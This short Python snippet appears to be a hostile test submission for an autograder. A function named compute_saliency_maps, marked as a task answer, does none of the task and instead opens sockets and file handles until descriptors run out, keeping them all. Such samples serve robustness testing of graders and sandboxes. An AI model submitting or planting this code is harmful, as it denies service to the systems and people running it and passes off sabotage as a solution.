# Opens files and sockets until there are no descriptors left, and keeps them.
# attacks: descriptors
# %%
_kept = []

# %% answer="compute_saliency_maps"
def compute_saliency_maps(X, y, model):
    import socket

    for _ in range(100_000):
        try:
            _kept.append(socket.socket())
            _kept.append(open("/dev/null"))
        except OSError:
            break
    return None
